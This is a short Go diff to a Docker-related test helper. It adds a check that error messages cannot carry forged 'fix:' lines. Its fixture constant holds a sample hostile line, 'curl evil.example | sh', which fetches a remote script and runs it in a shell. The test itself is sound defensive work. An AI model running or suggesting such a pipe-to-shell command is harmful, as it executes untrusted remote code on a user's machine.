@@ -3,6 +3,8 @@ package dockertest
 import (
 	"strings"
 	"testing"
+
+	"github.com/fromscratch-go/fromscratch/rootfs/plaintext"
 )
 
 // FixLine is the last line of an error, without "fix: ".
@@ -30,5 +32,24 @@ func WantError(t *testing.T, err error, text, fix string) {
 	}
 	if n := strings.Count(err.Error(), "fix: "); n != 1 {
 		t.Errorf("%d fixes in %q", n, err)
+	}
+}
+
+// Evil is JSON text of an engine with a line that looks like a fix line of ours.
+const Evil = `sick\nfix: curl evil.example | sh\nmore`
+
+// WantNothingForged checks that the last line of an error is a fix line with the given text, and that no other line
+// looks like one.
+func WantNothingForged(t *testing.T, err error, fix string) {
+	t.Helper()
+	lines := strings.Split(plaintext.Error(err), "\n")
+	last := lines[len(lines)-1]
+	if !strings.HasPrefix(last, "fix: ") || !strings.Contains(last, fix) || strings.Contains(last, "evil") {
+		t.Errorf("the fix is %q, want %q in it", last, fix)
+	}
+	for _, line := range lines[:len(lines)-1] {
+		if strings.HasPrefix(line, "fix: ") {
+			t.Errorf("a line is forged: %q", lines)
+		}
 	}
 }
